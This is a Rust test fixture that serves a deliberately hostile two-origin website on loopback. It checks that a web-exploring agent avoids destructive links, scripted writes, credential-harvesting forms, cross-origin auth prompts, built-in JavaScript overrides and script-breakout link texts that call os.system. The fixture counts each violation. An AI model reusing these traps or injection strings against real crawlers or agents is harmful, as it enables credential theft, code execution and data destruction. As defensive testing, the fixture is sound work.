//! A test fixture: a website that attacks its explorer, on two origins (the one explored and
//! another that wants what the explorer must keep), served in the test's process ([`serve`]).
//!
//! The start origin has an image from the other origin that asks for a password, a sign-in form
//! that posts to the other origin and one that sends it there by GET, GET links whose addresses
//! delete, truncate, reset, pay or cancel, innocuous buttons whose scripts send DELETE, POST and
//! a beacon, a form whose fields shadow the form's own properties, SVG links, a shadow root, an
//! iframe, 10,000 links, a 5 MB text node and invalid UTF-16 on one page, scripts that replace
//! the built-ins an explorer might call, an image that never loads, link texts written to break
//! out of a generated script, a panel swapped on one address, and a legitimate sign-in and
//! staff area of its own. Both origins count at `GET /stats` what an explorer must never do;
//! every count but `logins` and `private_pages` must stay 0.

use std::collections::HashMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use axum::Router;
use axum::extract::{Form, Request, State};
use axum::http::{HeaderMap, Method, StatusCode, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use axum::routing::{any, get};

use atlas_demo_site::html_escape;

/// The user and password the start origin accepts (give them to `--credentials`).
pub const USER: &str = "ann";
/// Its password.
pub const PASSWORD: &str = "pw-Hostile9";

/// What the two origins saw.
#[derive(Debug, Default)]
pub struct Counters {
    /// Requests other than GET and HEAD that reached the start origin (the sign-in aside).
    pub writes: AtomicUsize,
    /// GET requests to an address that deletes, resets, pays or cancels.
    pub destructive_gets: AtomicUsize,
    /// Sign-ins with the right password at the start origin.
    pub logins: AtomicUsize,
    /// The start origin's staff area served behind its HTTP authentication.
    pub private_pages: AtomicUsize,
    /// Requests at the other origin carrying an `Authorization` header.
    pub other_authorization: AtomicUsize,
    /// Requests at the other origin whose address, headers or body held the user or password.
    pub other_secrets: AtomicUsize,
    /// Requests that reached the other origin's collector (a sign-in form's action).
    pub other_collect: AtomicUsize,
    /// WebSocket handshakes (a channel a page writes through) at the start origin.
    pub websockets: AtomicUsize,
}

impl Counters {
    /// The counters, by name, as JSON.
    pub fn to_json(&self) -> serde_json::Value {
        let n = |c: &AtomicUsize| c.load(Ordering::SeqCst);
        serde_json::json!({
            "writes": n(&self.writes),
            "destructive_gets": n(&self.destructive_gets),
            "logins": n(&self.logins),
            "private_pages": n(&self.private_pages),
            "other_authorization": n(&self.other_authorization),
            "other_secrets": n(&self.other_secrets),
            "other_collect": n(&self.other_collect),
            "websockets": n(&self.websockets),
        })
    }
}

#[derive(Clone)]
struct Site {
    counters: Arc<Counters>,
    /// The other origin, `http://host:port`.
    other: String,
}

/// Addresses of the start origin that destroy, reset, pay or cancel when fetched.
const DESTRUCTIVE_GETS: &[&str] = &[
    "/db/truncate",
    "/order/9/cancel",
    "/reset-all",
    "/admin/drop-table",
    "/clear",
    "/archive-all",
    "/send-money",
    "/items?action=del",
];

/// Link texts written to close a generated script's string and run code.
const BREAKOUT_TEXTS: &[&str] = &[
    "'''''); import os; os.system('touch PWNED') #",
    "\"\"\"\\\"); __import__('os').system(\"touch PWNED\") #\u{2028}",
];

fn page(title: &str, body: &str) -> Html<String> {
    Html(format!(
        r#"<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>{title}</title></head>
<body><nav><a href="/">Home 首页</a> <a href="/danger">Tools</a> <a href="/odd">Odd page</a>
<a href="/panel">Panel</a> <a href="/orders">My orders</a> <a href="/login">Sign in</a>
<a href="/login-elsewhere">Sign in (partner)</a> <a href="/private">Staff</a> <a href="/notes">Notes</a></nav>
<main>{body}</main></body></html>"#
    ))
}

async fn home(State(site): State<Site>) -> Html<String> {
    let breakouts: String = BREAKOUT_TEXTS
        .iter()
        .enumerate()
        .map(|(i, t)| format!(r#"<p><a href="/quotes/{i}">{}</a></p>"#, html_escape(t)))
        .collect();
    page(
        "Hostile home",
        &format!(
            r#"<h1>Welcome</h1><img src="{}/secret.png" alt="partner logo">
<p><a href="/slow">A slow page</a></p><p><a href="/tracked">Latest figures</a></p>{breakouts}"#,
            site.other
        ),
    )
}

/// A page that reports its own view as it loads, as analytics do: refused like any write, but no
/// reason to call the link that led here destructive.
async fn tracked() -> Html<String> {
    page(
        "Latest figures",
        "<h1>Latest figures</h1><script>navigator.sendBeacon('/api/analytics', 'view');</script>",
    )
}

async fn quotes() -> Html<String> {
    page("Quotes", "<h1>Quotes</h1><p>Nothing to see.</p>")
}

async fn danger() -> Html<String> {
    let links: String = DESTRUCTIVE_GETS
        .iter()
        .map(|href| format!(r#"<li><a href="{href}">Details</a></li>"#))
        .collect();
    page(
        "Tools",
        &format!(
            r#"<h1>Tools</h1><ul>{links}</ul>
<button id="more" onclick="fetch('/api/items/1', {{method: 'DELETE'}})">Show more</button>
<button id="refresh" onclick="fetch('/api/notes', {{method: 'POST', body: 'x'}})">Refresh</button>
<button id="details" onclick="navigator.sendBeacon('/api/track', 'seen')">Details</button>
<button id="live" onclick="const s = new WebSocket('ws://' + location.host + '/ws'); s.onopen = () => s.send('drop everything')">Live</button>"#
        ),
    )
}

async fn destructive_get(State(site): State<Site>) -> Html<String> {
    site.counters
        .destructive_gets
        .fetch_add(1, Ordering::SeqCst);
    page("Done", "<h1>Done</h1><p>It is gone.</p>")
}

async fn orders() -> Html<String> {
    page(
        "My orders",
        r#"<h1>My orders</h1><ul><li><a href="/orders/9">Order 9</a></li></ul>"#,
    )
}

async fn order() -> Html<String> {
    page(
        "Order 9",
        r#"<h1>Order 9</h1><p>Two books.</p><p><a href="/order/9/cancel">Cancel order</a></p>"#,
    )
}

/// A form whose fields shadow the form's properties, SVG links (their `href` an object), a
/// shadow root, a custom element, an iframe, 10,000 links, a 5 MB text node, lone surrogates,
/// and scripts that replace what an explorer's reader might call.
async fn odd() -> Html<String> {
    let many: String = (0..10_000)
        .map(|i| format!(r##"<a href="/odd#{i}">{i}</a> "##))
        .collect();
    page(
        "Odd page",
        &format!(
            r##"<h1>Odd page</h1>
<form id="shadowing" method="get" action="/odd-results"><input name="action" value="a"><input name="method">
<input name="id"><input name="name"><input name="attributes"><input name="getAttribute"><input name="querySelector">
<input name="elements"><input name="tagName"><input name="children"><input name="q" type="search"><button>Go</button></form>
<svg width="200" height="40"><a href="/quotes/0"><text x="5" y="20">SVG link</text></a>
<a xlink:href="/quotes/1" xmlns:xlink="http://www.w3.org/1999/xlink"><text x="100" y="20">old SVG link</text></a></svg>
<div id="host"></div><odd-widget>custom</odd-widget>
<iframe srcdoc="<a href='/quotes/0'>inside</a>" title="frame"></iframe>
<img name="forms" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""><img name="body" alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<div id="big"></div><p id="broken"></p><div>{many}</div>
<script>
document.getElementById('host').attachShadow({{mode: 'open'}}).innerHTML = '<a href="/quotes/1">in a shadow root</a>';
customElements.define('odd-widget', class extends HTMLElement {{}});
document.getElementById('big').textContent = 'x'.repeat(5 * 1024 * 1024);
document.getElementById('broken').textContent = 'lone \uD800 and \uDC00 surrogates';
document.title = 'Odd page \uD83D';
JSON.stringify = () => {{ throw new Error('no'); }};
Array.prototype.map = function () {{ return 42; }};
Array.from = () => null;
Element.prototype.getAttribute = () => ({{}});
Document.prototype.querySelectorAll = () => {{ throw new Error('no'); }};
Object.getOwnPropertyDescriptor = () => undefined;
</script>"##
        ),
    )
}

async fn odd_results() -> Html<String> {
    page("Odd results", "<h1>Odd results</h1>")
}

/// An editor that asks before it is left, as a wiki's does once something is typed: the
/// prompt, unanswered, would hold the tab's next navigation (its own form's sending first).
async fn notes() -> Html<String> {
    page(
        "Notes",
        r#"<h1>Notes</h1><form action="/notes/saved" method="get"><label>Note <input name="note"></label>
<button>Keep</button></form>
<script>
window.addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'Unsaved changes'; });
</script>"#,
    )
}

async fn notes_saved() -> Html<String> {
    page("Notes kept", "<h1>Notes kept</h1>")
}

/// One address, two panels: the button swaps the heading and the list, no link changes and
/// nothing is marked selected.
async fn panel() -> Html<String> {
    page(
        "Panel",
        r#"<section id="panel"><h2>Overview</h2><ul><li>Sales</li><li>Visits</li></ul></section>
<button id="swap" type="button">Show reports</button>
<script>
document.getElementById('swap').addEventListener('click', () => {
  document.getElementById('panel').innerHTML = '<h2>Reports</h2><table><tr><td>Q1</td><td>Q2</td></tr></table>';
});
</script>"#,
    )
}

async fn login_page() -> Html<String> {
    page(
        "Sign in",
        r#"<h1>Sign in</h1><form method="post" action="/login"><label>User <input name="username"></label>
<label>Password <input name="password" type="password"></label><button type="submit">Sign in</button></form>"#,
    )
}

async fn login(State(site): State<Site>, Form(form): Form<HashMap<String, String>>) -> Response {
    let value = |k: &str| form.get(k).map(String::as_str).unwrap_or_default();
    if value("username") == USER && value("password") == PASSWORD {
        site.counters.logins.fetch_add(1, Ordering::SeqCst);
        return Redirect::to("/account").into_response();
    }
    page("Sign in failed", "<h1>Sign in failed</h1>").into_response()
}

async fn account() -> Html<String> {
    page("Account", "<h1>Account</h1><p>Signed in.</p>")
}

/// Sign-in forms that send their fields to the other origin: by POST, and by GET.
async fn login_elsewhere(State(site): State<Site>) -> Html<String> {
    page(
        "Partner sign-in",
        &format!(
            r#"<h1>Partner sign-in</h1>
<form method="post" action="{other}/collect"><input name="username"><input name="password" type="password"><button>Sign in</button></form>
<form method="get" action="{other}/collect"><input name="user"><input name="pass" type="password"><button>Sign in quickly</button></form>"#,
            other = site.other
        ),
    )
}

fn basic(user: &str, password: &str) -> String {
    use base64::Engine as _;
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
    )
}

async fn private(State(site): State<Site>, headers: HeaderMap) -> Response {
    let given = headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok());
    if given != Some(basic(USER, PASSWORD).as_str()) {
        return (
            StatusCode::UNAUTHORIZED,
            [(header::WWW_AUTHENTICATE, "Basic realm=\"staff\"")],
            "who are you?",
        )
            .into_response();
    }
    site.counters.private_pages.fetch_add(1, Ordering::SeqCst);
    page("Staff area", "<h1>Staff area</h1>").into_response()
}

/// An image that never arrives.
async fn slow(State(site): State<Site>) -> Html<String> {
    Html(format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Slow</title></head><body><h1>Slow</h1>
<img src="{}/hang" alt="never"><p><a href="/">Home</a></p></body></html>"#,
        site.other
    ))
}

/// Counts every write that reaches the start origin, whatever its address.
async fn count_writes(
    State(site): State<Site>,
    request: Request,
    next: axum::middleware::Next,
) -> Response {
    if request.headers().contains_key(header::UPGRADE) {
        site.counters.websockets.fetch_add(1, Ordering::SeqCst);
    }
    let sign_in = request.method() == Method::POST && request.uri().path() == "/login";
    if !matches!(*request.method(), Method::GET | Method::HEAD) && !sign_in {
        site.counters.writes.fetch_add(1, Ordering::SeqCst);
    }
    next.run(request).await
}

/// The other origin: every request is searched for the start origin's secrets.
async fn other(State(site): State<Site>, request: Request) -> Response {
    let counters = &site.counters;
    let (parts, body) = request.into_parts();
    let body = axum::body::to_bytes(body, 1 << 20)
        .await
        .unwrap_or_default();
    let mut seen = format!("{} {}", parts.uri, String::from_utf8_lossy(&body));
    for (name, value) in &parts.headers {
        seen.push_str(&format!(" {name}: {}", value.to_str().unwrap_or_default()));
    }
    let decoded = url::form_urlencoded::parse(seen.as_bytes())
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join("&");
    if parts.headers.contains_key(header::AUTHORIZATION) {
        counters.other_authorization.fetch_add(1, Ordering::SeqCst);
    }
    if [seen.as_str(), decoded.as_str()]
        .iter()
        .any(|s| s.contains(PASSWORD) || s.contains(&basic(USER, PASSWORD)))
    {
        counters.other_secrets.fetch_add(1, Ordering::SeqCst);
    }
    match parts.uri.path() {
        "/stats" => axum::Json(counters.to_json()).into_response(),
        "/collect" => {
            counters.other_collect.fetch_add(1, Ordering::SeqCst);
            page("Collected", "<h1>Thanks</h1>").into_response()
        }
        "/secret.png" => (
            StatusCode::UNAUTHORIZED,
            [(header::WWW_AUTHENTICATE, "Basic realm=\"partner\"")],
            "password please",
        )
            .into_response(),
        "/hang" => {
            tokio::time::sleep(Duration::from_secs(120)).await;
            StatusCode::NO_CONTENT.into_response()
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The start origin's site; `other` is the other origin (`http://host:port`).
fn router(counters: Arc<Counters>, other: &str) -> Router {
    let site = Site {
        counters,
        other: other.trim_end_matches('/').to_string(),
    };
    let mut router = Router::new()
        .route("/", get(home))
        .route("/quotes/{i}", get(quotes))
        .route("/tracked", get(tracked))
        // A WebSocket's handshake is counted on its way in; no socket is ever opened.
        .route("/ws", get(|| async { StatusCode::NOT_FOUND }))
        .route("/danger", get(danger))
        .route("/orders", get(orders))
        .route("/orders/9", get(order))
        .route("/odd", get(odd))
        .route("/odd-results", get(odd_results))
        .route("/panel", get(panel))
        .route("/notes", get(notes))
        .route("/notes/saved", get(notes_saved))
        .route("/login", get(login_page).post(login))
        .route("/account", get(account))
        .route("/login-elsewhere", get(login_elsewhere))
        .route("/private", get(private))
        .route("/slow", get(slow))
        .route(
            "/stats",
            get(|State(site): State<Site>| async move { axum::Json(site.counters.to_json()) }),
        );
    for path in DESTRUCTIVE_GETS {
        router = router.route(path.split('?').next().unwrap_or(path), get(destructive_get));
    }
    router
        .route("/api/{*rest}", any(|| async { StatusCode::NO_CONTENT }))
        .layer(axum::middleware::from_fn_with_state(
            site.clone(),
            count_writes,
        ))
        .with_state(site)
}

/// The two origins, served on loopback ports of their own until the test process ends.
pub struct HostileSite {
    /// The origin explored (`http://127.0.0.1:port`).
    pub base: String,
    /// The origin that wants the explorer's secrets.
    pub other: String,
}

/// Serves the hostile site on two free loopback ports, each from a thread of its own.
pub fn serve() -> HostileSite {
    let counters = Arc::new(Counters::default());
    let other = crate::common::serve_in_background(other_router(counters.clone()));
    let base = crate::common::serve_in_background(router(counters, &other));
    HostileSite { base, other }
}

/// The other origin's site: counts what it receives (`/stats` there too).
fn other_router(counters: Arc<Counters>) -> Router {
    let site = Site {
        counters,
        other: String::new(),
    };
    Router::new().fallback(any(other)).with_state(site)
}
